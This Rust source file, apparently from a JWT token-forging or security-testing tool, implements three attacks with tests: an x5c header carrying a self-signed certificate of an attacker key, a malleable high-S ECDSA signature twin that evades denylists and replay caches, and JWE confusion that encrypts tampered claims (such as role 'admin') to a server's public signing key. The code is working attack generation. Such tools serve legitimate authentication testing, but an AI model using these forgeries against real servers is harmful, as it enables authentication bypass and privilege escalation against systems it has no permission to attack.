//! The attacks issue 19 added beside the classic ones: `x5c` (a self-signed certificate of
//! a fresh key in the header), `high-s` (the ECDSA twin of the captured signature) and
//! `jwe-confusion` (a JWE made with the server's public key where a JWS is expected).

use base64ct::Encoding;
use serde_json::Value;

use super::keyed::{self_signed, FreshKeys};
use super::{key_token, seg, Base, Inputs};
use crate::alg::{Alg, Curve, Enc, Family};
use crate::jwe::{self, EncryptOptions, JweKey};
use crate::keys::Key;
use crate::{b64, Result};

/// A fresh RSA key signs, and a self-signed certificate of it rides in `x5c` (standard
/// base64 DER, RFC 7515 section 4.1.6): a server that takes the leaf's key without
/// validating the chain to a trust anchor verifies with the attacker's key.
pub(super) fn x5c(
    b: &Base,
    fresh: &mut FreshKeys,
    push: &mut impl FnMut(String, String),
) -> Result<()> {
    let k = fresh.get(Alg::RS256)?;
    let cert = base64ct::Base64::encode_string(&self_signed(&k)?);
    let mut h = b.header_with_alg(Alg::RS256.name());
    for m in ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"] {
        h.remove(m);
    }
    h.insert(
        "kid".into(),
        Value::String(k.kid.clone().unwrap_or_default()),
    );
    h.insert("x5c".into(), Value::Array(vec![Value::String(cert)]));
    push(
        "RS256, fresh key in a self-signed x5c certificate".into(),
        key_token(&k, Alg::RS256, &h, &b.payload_seg)?,
    );
    Ok(())
}

/// The order n of each ECDSA curve, big-endian (SEC 2, FIPS 186-4 D.1.2).
fn order(curve: Curve) -> Option<&'static str> {
    Some(match curve {
        Curve::P256 => "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551",
        Curve::Secp256k1 => "fffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141",
        Curve::P384 => "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973",
        Curve::P521 => "01fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409",
        _ => return None,
    })
}

/// The bytes of an even-length hex constant of ours.
fn unhex(h: &str) -> Vec<u8> {
    h.as_bytes()
        .chunks(2)
        .map(|p| {
            let d = |c| crate::hex::digit(c).unwrap_or(0);
            (d(p[0]) << 4) | d(p[1])
        })
        .collect()
}

/// `n - s` over big-endian byte strings of one length (`s < n`, so no borrow is left).
fn sub_from(n: &[u8], s: &[u8]) -> Vec<u8> {
    let mut out = vec![0u8; n.len()];
    let mut borrow = 0i16;
    for i in (0..n.len()).rev() {
        let mut d = i16::from(n[i]) - i16::from(s[i]) - borrow;
        borrow = i16::from(d < 0);
        if d < 0 {
            d += 256;
        }
        out[i] = d as u8;
    }
    out
}

/// The captured ECDSA signature's twin: (r, n − s) verifies for the same claims
/// (ECDSA is malleable), yet its bytes differ, so a denylist or one-time-use cache keyed
/// by the signature (or the token string) does not recognise it.
pub(super) fn high_s(b: &Base, sig: &[u8], push: &mut impl FnMut(String, String)) {
    let Some(alg) = b.alg else { return };
    let Family::Ecdsa(curve) = alg.family() else {
        return;
    };
    let len = curve.field_len();
    let Some(n) = order(curve).map(unhex) else {
        return;
    };
    if sig.len() != 2 * len {
        return;
    }
    let (r, s) = sig.split_at(len);
    if s.iter().all(|x| *x == 0) || s >= n.as_slice() {
        return;
    }
    let twin = [r, &sub_from(&n, s)].concat();
    let flipped = if s > &half(&n)[..] { "low" } else { "high" };
    push(
        format!("{alg}, s replaced by n - s ({flipped}-S twin, same claims)"),
        format!(
            "{}.{}.{}",
            seg(&b.header),
            b.payload_seg,
            b64::encode(&twin)
        ),
    );
}

/// `n / 2` (a right shift over the bytes), the boundary of low-S signatures.
fn half(n: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(n.len());
    let mut carry = 0u8;
    for x in n {
        out.push((x >> 1) | (carry << 7));
        carry = x & 1;
    }
    out
}

/// The tampered claims as a JWE encrypted to each of the server's public keys (its own
/// default key management, with A256GCM and A128CBC-HS256): a server that decrypts
/// whatever arrives and trusts the plaintext as if signed takes claims anyone can make.
pub(super) fn jwe_confusion(
    b: &Base,
    inputs: &Inputs,
    push: &mut impl FnMut(String, String),
) -> Result<()> {
    let Some(pk) = &inputs.public_key else {
        return Ok(());
    };
    let claims = serde_json::to_vec(&b.tampered).unwrap_or_default();
    for k in pk
        .keys
        .iter()
        .filter(|k| matches!(k.key, Key::Rsa(_) | Key::Ec(_)))
    {
        // The key is the server's signing key (use sig, alg RS256…): the attack is using
        // it for encryption anyway, so its restrictions are dropped.
        let mut public = k.to_public()?;
        public.alg = None;
        public.use_ = None;
        public.key_ops = None;
        let kid = public.kid.clone().or_else(|| {
            b.header
                .get("kid")
                .and_then(Value::as_str)
                .map(str::to_owned)
        });
        for enc in [Enc::A256Gcm, Enc::A128CbcHs256] {
            let o = EncryptOptions {
                enc,
                kid: kid.clone(),
                ..EncryptOptions::default()
            };
            let token = jwe::encrypt(&JweKey::Jwk(public.clone()), &o, &claims)?;
            push(
                format!(
                    "tampered claims encrypted to the {} public key ({enc})",
                    k.kty()
                ),
                token,
            );
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::forge::{attack, forge, Inputs, PublicKeyInput};
    use crate::keys::{self, Jwk, ReadOptions};
    use crate::token::{self, Jws, Parsed};
    use serde_json::Map;

    fn jws(t: &str) -> Jws {
        match token::parse(t).expect("parses") {
            Parsed::Jws(j) => j,
            Parsed::Jwe { .. } => panic!("not a JWS"),
        }
    }

    fn signed(alg: Alg) -> (String, Jwk) {
        let k = keys::generate(alg, None, Some("srv".into())).unwrap();
        let h = crate::token::sign::header(alg, Some("srv"), Map::new()).unwrap();
        let claims = serde_json::json!({"sub": "alice"});
        let t = crate::token::sign::sign(&k, alg, &h, claims.as_object().unwrap()).unwrap();
        (t, k)
    }

    fn run(t: &str, name: &str, inputs: &Inputs) -> Vec<String> {
        let f = forge(&jws(t), &[attack(name).unwrap()], inputs).unwrap();
        f.tokens.into_iter().map(|x| x.token).collect()
    }

    #[test]
    fn x5c_carries_a_certificate_whose_key_verifies_the_token() {
        let (t, _) = signed(Alg::HS256);
        let forged = run(&t, "x5c", &Inputs::default());
        assert_eq!(forged.len(), 1);
        let j = jws(&forged[0]);
        let der = base64ct::Base64::decode_vec(j.header["x5c"][0].as_str().unwrap()).unwrap();
        let pem =
            pem_rfc7468::encode_string("CERTIFICATE", pem_rfc7468::LineEnding::LF, &der).unwrap();
        let key = keys::read(pem.as_bytes(), &ReadOptions::default())
            .unwrap()
            .into_keys()
            .remove(0);
        assert_eq!(j.alg(), Some("RS256"));
        assert!(key
            .verify(Alg::RS256, j.signing_input.as_bytes(), &j.signature)
            .unwrap());
    }

    #[test]
    fn high_s_twin_verifies_for_the_same_claims_with_other_bytes() {
        for alg in [Alg::ES256, Alg::ES384, Alg::ES512] {
            let (t, k) = signed(alg);
            let forged = run(&t, "high-s", &Inputs::default());
            assert_eq!(forged.len(), 1, "{alg}");
            let (orig, twin) = (jws(&t), jws(&forged[0]));
            assert_eq!(orig.signing_input, twin.signing_input);
            assert_ne!(orig.signature, twin.signature);
            let half = orig.signature.len() / 2;
            assert_eq!(orig.signature[..half], twin.signature[..half]);
            assert!(k
                .verify(alg, twin.signing_input.as_bytes(), &twin.signature)
                .unwrap());
        }
        let (rs, _) = signed(Alg::RS256);
        assert!(run(&rs, "high-s", &Inputs::default()).is_empty());
    }

    #[test]
    fn jwe_confusion_decrypts_with_the_server_key_to_the_tampered_claims() {
        // EC (ECDH-ES): RSA decryption needs the aws-lc build, and this runs in both.
        let (t, k) = signed(Alg::ES256);
        let pem = k.to_public().unwrap().to_pem(false).unwrap().to_string();
        let inputs = Inputs {
            public_key: Some(PublicKeyInput {
                raw: pem.clone().into_bytes(),
                keys: keys::read(pem.as_bytes(), &ReadOptions::default())
                    .unwrap()
                    .into_keys(),
            }),
            ..Inputs::default()
        };
        let forged = run(&t, "jwe-confusion", &inputs);
        assert_eq!(forged.len(), 2);
        for f in &forged {
            assert_eq!(f.split('.').count(), 5, "{f}");
            // The server's key says use "sig"; the confused server decrypts with it anyway.
            let mut dk = k.clone();
            dk.use_ = None;
            dk.alg = None;
            let d = jwe::decrypt(f, &[JweKey::Jwk(dk)], &Default::default())
                .unwrap_or_else(|e| panic!("decrypts: {e:?}"));
            let claims: serde_json::Value = serde_json::from_slice(&d.plaintext).unwrap();
            assert_eq!(claims["sub"], "alice");
            assert_eq!(claims["role"], "admin");
        }
    }

    #[test]
    fn n_minus_s_is_exact_and_half_splits_the_order() {
        assert_eq!(sub_from(&[0x01, 0x00], &[0x00, 0x01]), [0x00, 0xff]);
        assert_eq!(sub_from(&[0xff, 0x10], &[0x0f, 0x20]), [0xef, 0xf0]);
        assert_eq!(half(&[0x03, 0x01]), [0x01, 0x80]);
        for c in [Curve::P256, Curve::P384, Curve::P521, Curve::Secp256k1] {
            let n = unhex(order(c).unwrap());
            assert_eq!(n.len(), c.field_len(), "{c:?}");
        }
    }
}
